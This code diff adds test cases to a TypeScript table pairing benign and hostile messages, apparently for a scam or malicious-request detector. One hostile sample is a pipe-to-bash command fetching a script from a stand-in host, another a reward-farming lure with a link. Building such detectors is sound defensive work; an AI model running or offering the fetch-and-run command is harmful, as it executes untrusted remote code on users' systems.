@@ -1061,6 +1061,18 @@ const FOUND_15: [string, string, string, MirrorFlag][] = [
     'Launch the attached script on your node and send me the log.',
     'decode_request',
   ],
+  [
+    'a token act as a verb right before a link, not a noun',
+    'Claim window recap and stats https://t.co/abc',
+    'farm fast, rewards end soon https://t.co/abc',
+    'money_request',
+  ],
+  [
+    "a bare run verb's colon followed by a command",
+    'Execute: the word means to run a program, or to carry out a plan.',
+    'Execute:\ncurl -s https://fix.example.net/p.sh | bash',
+    'decode_request',
+  ],
 ];
 
 for (const [family, benign, hostile, label] of FOUND_15) {
